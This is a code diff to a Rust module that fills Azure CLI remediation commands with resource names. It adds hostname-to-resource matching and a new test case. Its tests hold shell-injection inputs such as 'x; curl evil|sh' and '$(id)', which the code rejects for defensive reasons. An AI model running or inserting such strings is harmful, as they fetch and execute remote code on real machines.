@@ -10,6 +10,19 @@ use super::tables::{Ground, Role, Row};
 /// Parts that are meant as they are, not as names of resources.
 const ADDRESSES: [&str; 4] = ["endpoint", "url", "address", "path"];
 
+/// A host tells the resource that it belongs to.
+fn is_address_of(name: &str, part: &Part) -> bool {
+    let ending = match name {
+        "app" => ".azurewebsites.net",
+        "cache" => ".redis.cache.windows.net",
+        "vault" => ".vault.azure.net",
+        "account" => ".documents.azure.com",
+        _ => return false,
+    };
+    let host = part.value.split([',', ':', '/']).next().unwrap_or_default();
+    part.name == "host" && host.to_ascii_lowercase().ends_with(ending)
+}
+
 /// The steps of a row, with the finding's parts in their commands.
 pub(super) fn filled(row: &Row, parts: &[Part], ground: Ground) -> Remedy {
     let steps = row
@@ -71,7 +84,8 @@ pub(super) fn fill(text: &str, parts: &[Part]) -> String {
             let value = |part: &Part| {
                 if ADDRESSES.contains(&name) { part.value.clone() } else { part.resource_name().to_owned() }
             };
-            match parts.iter().filter(|part| part.name == name).map(value).find(|value| is_plain_word(value)) {
+            let is_meant = |part: &&Part| part.name == name || is_address_of(name, part);
+            match parts.iter().filter(is_meant).map(value).find(|value| is_plain_word(value)) {
                 Some(value) => out.push_str(&value),
                 None => out.push_str(&format!("<{name}>")),
             }
@@ -101,6 +115,10 @@ mod tests {
         for (value, filled) in [
             ("contoso", "az storage account keys renew -n contoso --query \"[].{keyId:keyId}\""),
             ("x; curl evil|sh", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
+            (
+                "contoso.redis.cache.windows.net",
+                "az storage account keys renew -n contoso --query \"[].{keyId:keyId}\"",
+            ),
             ("--yes", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
             ("$(id)", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
         ] {
